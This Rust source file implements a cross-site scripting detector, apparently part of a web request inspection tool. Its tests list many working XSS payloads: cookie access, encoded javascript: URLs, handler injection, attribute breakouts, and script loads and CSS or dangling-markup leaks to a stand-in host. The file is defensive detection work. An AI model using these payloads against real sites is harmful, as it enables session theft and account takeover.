//! Cross-site scripting: markup that runs scripts, attributes that break out of a tag, and
//! script that breaks out of a string. What browsers undo before they run is undone first.

mod attribute;
mod call;
mod disguise;
mod event;
mod fragment;
mod markup;
mod overlap;
mod page;
mod script;
mod sink;
mod words;

use super::detector::{Detector, Report};
use super::documents::holds_piece;
use super::prefilter::{Hints, Marks};
use super::words::Words;
use super::{patterns, Family, Part};
use crate::decode::{html, percent, Value};

/// Longest value whose comments are dropped. Units: bytes.
const COMMENTED: usize = 512;

/// Most that is said of a page's scripts where whole pages are taken.
const TAKEN: f32 = 0.2;

/// The detector of this family.
pub struct Xss;

impl Detector for Xss {
    fn family(&self) -> Family {
        Family::Xss
    }

    fn wants(&self, hints: &Hints) -> bool {
        hints.has(Marks::MARKUP) || hints.words.contains(Words::SCRIPT)
    }

    /// What markup costs is taken while it is read.
    fn steps(&self, bytes: usize) -> usize {
        100 + bytes / 6
    }

    /// What a tag is depends on the document around it.
    fn reads_pieces(&self) -> bool {
        false
    }

    fn judge(&self, value: &Value<'_>, report: &mut Report<'_>) {
        let text = value.bytes;
        let tagged = memchr::memchr(b'<', text).is_some();
        if tagged && page::is_page(value) {
            report.doubt(&["xss.script_tag"], TAKEN);
        }
        if tagged {
            markup::judge(text, report);
        }
        let field =
            matches!(value.part, Part::Query | Part::Form | Part::Json) && !holds_piece(value);
        // Behind the beginning of prose or of a program both are what the text is about.
        let head = &text[..patterns::prose(value.part, text).unwrap_or(text.len())];
        let piece = || fragment::find(text).is_some_and(|at| at < head.len());
        if field && disguise::hides_letters(head) {
            report.add("xss.references", 0.65);
        } else if field && tagged && piece() {
            report.add("xss.fragment", 0.55);
        }
        if let Some(tag) = leaves_attribute(text) {
            let loads = [&b"src"[..], b"SRC", b"href", b"marquee"]
                .iter()
                .any(|word| memchr::memmem::find(tag, word).is_some());
            report.add("xss.breakout", if loads { 0.7 } else { 0.45 });
        }
        script::judge(text, report);
        if let Some(plain) = undo(text) {
            // Beside real tags, escaped ones are what the text is about.
            if !tagged || memchr::memchr(0, text).is_some() {
                markup::judge(&plain, report);
            }
            script::judge(&plain, report);
        }
        if let Some(plain) = unplussed(text) {
            markup::judge(&plain, report);
        }
    }

    fn prepare(&self) {
        page::prepare();
    }
}

/// `"><img`: a quote and a tag's end before the first tag, so that both end what is not here.
/// Gives that tag.
fn leaves_attribute(text: &[u8]) -> Option<&[u8]> {
    const SIGNS: usize = 6;
    let at = memchr::memchr(b'<', text).filter(|_| text.len() <= COMMENTED)?;
    let sign = |b: &u8| matches!(b, b'>' | b'/' | b' ' | b';' | b'\'' | b'"');
    let signs = text[..at].iter().rev().take_while(|b| sign(b)).count();
    let lead = &text[at - signs..at];
    let quote = memchr::memchr2(b'\'', b'"', lead)?;
    let closed = signs <= SIGNS && memchr::memchr(b'>', &lead[quote..]).is_some();
    let tag = &text[at + 1..];
    (closed && tag.first().is_some_and(u8::is_ascii_alphabetic)).then_some(tag)
}

/// Undoes the blanks of a tag that came encoded once more than it was read: `<a+onclick=...>`.
fn unplussed(text: &[u8]) -> Option<Vec<u8>> {
    let tag = memchr::memchr(b'<', text)?;
    let encoded = text.len() <= COMMENTED
        && memchr::memchr(b'+', &text[tag..]).is_some()
        && memchr::memchr(b' ', text).is_none();
    encoded.then(|| {
        let blank = |b: &u8| if *b == b'+' { b' ' } else { *b };
        text.iter().map(blank).collect()
    })
}

/// Undoes what a browser would: references, the escapes of script strings, null bytes within a
/// tag. `None` when there is nothing to undo.
fn undo(text: &[u8]) -> Option<Vec<u8>> {
    let mut plain = text.to_vec();
    let mut changed = false;
    let mut out = Vec::new();
    // Twice, for references to references.
    for _ in 0..2 {
        if memchr::memchr(b'&', &plain).is_none() || !html::undo(&plain, &mut out) {
            break;
        }
        std::mem::swap(&mut plain, &mut out);
        changed = true;
    }
    if memchr::memchr(0, &plain).is_some() {
        plain.retain(|b| *b != 0);
        changed = true;
    }
    if let Some(without) = uncommented(&plain) {
        plain = without;
        changed = true;
    }
    match escapes(&plain) {
        Some(undone) => Some(undone),
        None => changed.then_some(plain),
    }
}

/// Drops comments between the words of a short script, and the blanks beside a point:
/// `document /**/ . cookie`. `None` where there are none.
fn uncommented(text: &[u8]) -> Option<Vec<u8>> {
    let mut at = memchr::memmem::find(text, b"/*").filter(|_| text.len() <= COMMENTED)?;
    let mut out = text[..at].trim_ascii_end().to_vec();
    loop {
        let end = memchr::memmem::find(&text[at..], b"*/")?;
        let rest = text[at + end + 2..].trim_ascii_start();
        match memchr::memmem::find(rest, b"/*") {
            Some(next) => {
                out.extend_from_slice(rest[..next].trim_ascii_end());
                at = text.len() - rest.len() + next;
            }
            None => {
                out.extend_from_slice(rest);
                return Some(out);
            }
        }
    }
}

/// Undoes `\x3c`, `\u003c`, `\u{3c}`.
fn escapes(text: &[u8]) -> Option<Vec<u8>> {
    let first = memchr::memchr(b'\\', text)?;
    let mut out = text[..first].to_vec();
    let (mut at, mut changed) = (first, false);
    while at < text.len() {
        match escape(&text[at..]) {
            Some((length, character)) => {
                out.extend_from_slice(character.encode_utf8(&mut [0; 4]).as_bytes());
                at += length;
                changed = true;
            }
            None => {
                out.push(text[at]);
                at += 1;
            }
        }
    }
    changed.then_some(out)
}

fn escape(text: &[u8]) -> Option<(usize, char)> {
    let (length, digits) = match text {
        [b'\\', b'x' | b'X', ..] => (4, text.get(2..4)?),
        [b'\\', b'u', b'{', rest @ ..] => {
            let end = rest.iter().take(7).position(|b| *b == b'}')?;
            (end + 4, &rest[..end])
        }
        [b'\\', b'u' | b'U', ..] => (6, text.get(2..6)?),
        _ => return None,
    };
    Some((length, char::from_u32(percent::hex(digits)?)?))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::budget::Budget;
    use crate::inspect::testing::{score, score_at};

    #[test]
    fn scripts_are_found() {
        for text in [
            "a=1&b=\";alert('x');//&c=2",
            "q=Test'-alert('x')-'&page=1",
            "\"><img src=//a.example/x.png>",
            "'>\"><marquee><h1>x</h1>",
            "<a href=\"vbscript:MsgBox+1\">x</a>",
            "<img src=&{document.x=1;};>",
            "<IMG SRC=\"mocha:[code]\">",
            "document/**/.cookie",
            "<script>a=/x/",
            "document['coo'+'kie']",
            "String.fromCharCode(97,108,101,114,116)",
            "top[8680439..toString(30)](1)",
            "{onerror=alert}throw 1",
            "document.body.appendChild(document.createElement('script')).src='//a.example'",
            "data:text/html;base64,PHNjcmlwdD5h",
            "<portal src=//a.example>",
            "<style>input[value^=a]{background:url(//a.example/a)}</style>",
            "<img src='//a.example/log?",
            "<img src=x onerror={alert(1)}>",
            "\" ping=//a.example href=//a.example \"",
            "<script>alert(1)</script>",
            "<ScRiPt src=//x.example/a.js>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert`1`>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus=alert(1) x='",
            "';alert(1)//",
            "\"-alert(1)-\"",
            "javascript:alert(document.cookie)",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
            "<div style=\"x:expression(alert(1))\">",
            "<math><mi xlink:href=\"javascript:alert(1)\">",
            "<script data-type=\"text/html\">alert(1)</script>",
            "<script type=\"module\">alert(1)</script>",
            "<script type=\"text/vbscript\">alert(1)</script>",
            "<script type=text/javascript type=text/html>alert(1)</script>",
            "<script type=\"text/java&#115;cript\">alert(1)</script>",
            "<script \"type=\"text/html\">f('//a.example')</script>",
            "<script \\type=text/html>f('//a.example')</script>",
            "<script x=`>f('//a.example')/*` type=a/b>*/</script>",
        ] {
            assert!(score(&Xss, text) >= 0.5, "{text}");
        }
    }

    /// Where prose is longer, nothing but its attribute tells a handler.
    #[test]
    fn handlers_are_found_in_long_texts() {
        let lead = "All that one may say about it. ".repeat(40);
        for tag in [
            "<img src=x a=` onerror=go(name) b=`>".to_owned(),
            format!("<img{} src=x onerror=go(name)>", " a=1".repeat(40)),
            format!("<img{} src=x onerror=go(name)><b>", "/a".repeat(400)),
        ] {
            let found = score_at(&Xss, Part::Json, b"note", &format!("<p>{lead}</p>{tag}"));
            assert!(found >= 0.5, "{tag}");
        }
    }

    /// The work is bounded by the value's length, however its tags are nested.
    #[test]
    fn nested_tags_cost_no_more_than_their_length() {
        for unit in [
            "<a",
            "<script",
            "<a b=\"",
            "<a b=` ",
            "<!attlist",
            "<a b='<c d=\"",
            "< ",
        ] {
            let text = unit.repeat((64 << 10) / unit.len()) + " x=\"" + &"y".repeat(64 << 10);
            let mut report = |_: &'static str, _: f32| {};
            let mut budget = Budget::endless();
            let mut report = Report::new(&mut report, &mut budget);
            let spent = markup::judge(text.as_bytes(), &mut report);
            assert!(spent <= 9 * text.len() + 4096, "{unit}: {spent}");
        }
    }

    #[test]
    fn no_row_of_tags_hides_what_stands_behind_it() {
        for (unit, times) in [
            ("<a ", 900),
            ("<a x=1 ", 500),
            ("<a <b ", 450),
            ("<p x=\"1\" ", 400),
        ] {
            let text = unit.repeat(times);
            let hidden = format!("{text}<img src=x onerror=alert(document.cookie)>");
            assert!(score(&Xss, &hidden) >= 0.5, "{unit}");
            assert!(
                score(&Xss, &format!("{text}<img src=x alt=y>")) < 0.5,
                "{unit}"
            );
        }
    }

    #[test]
    fn data_is_told_by_all_of_its_attributes() {
        let script = |attributes: usize, last: &str| {
            let between = " a".repeat(attributes);
            format!("<script type=\"application/json\"{between}{last}</script>")
        };
        for attributes in [1, 40, 900, 3000] {
            let data = script(attributes, ">{}");
            assert!(score(&Xss, &data) < 0.5, "{attributes}");
            let loaded = script(attributes, " src=//a.example/x.js>");
            assert!(score(&Xss, &loaded) >= 0.5, "{attributes}");
        }
        // The page around it ends the tag, and has the last word.
        assert!(score(&Xss, "<script type=\"application/json\" ") >= 0.5);
        assert!(score(&Xss, &script(2000, " src=//a.example/x.js>")) >= 0.5);
    }

    #[test]
    fn documents_put_lines_together() {
        let at = |name, text| score_at(&Xss, Part::Json, name, text);
        let shown = b"content.cells.outputs.data.text/html";
        assert!(at(shown, "</div>") < 0.5);
        assert!(at(b"data.text/html", "</div>") >= 0.5);
        assert!(at(shown, "<img src=x onerror=alert(1)>") >= 0.5);
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        for text in [
            "\"two words\" -not onerror=resume",
            "<p>Hello <b>world</b>, <a href=\"https://a.example/?x=1&y=2\">link</a></p>",
            "<img src=\"https://a.example/a.png\" alt=\"one = two\">",
            "<Foo onClick={() => setOpen(true)} />",
            "<div className=\"app\" onClick={handle}>Hi</div>",
            "<input value={x} onChange={this.props.onChange} />",
            "<img alt=\"onload=1\">",
            "Alert (high)",
            "<!--[if mso]><table><tr><td><![endif]-->x<!--[if mso]></td></tr></table><![endif]-->",
            "<script type=\"application/ld+json\">{\"a\":\"b\"}</script>",
            "<script type=\"text/html\" data-name=\"about\"><p>A node</p></script>",
            "<script type='text/x-template' id=row><li>x</li></script>",
            "<div><input type=\"text\" value=\"\"></div>",
            "String.fromCharCode(65)",
            "document.querySelector('.x').focus()",
            "if a < b and c > d then \"on\" = 'off'",
            "I love JavaScript: it is fun; be on time",
            "Please confirm (by mail) or alert us",
            "let v: Vec<String> = x.iter().map(|s| s.into()).collect();",
            "<3 you; onwards = upwards",
            "a=1&b=\"2\"; version=3; online=true",
        ] {
            assert!(score(&Xss, text) < 0.5, "{text}");
        }
    }
}
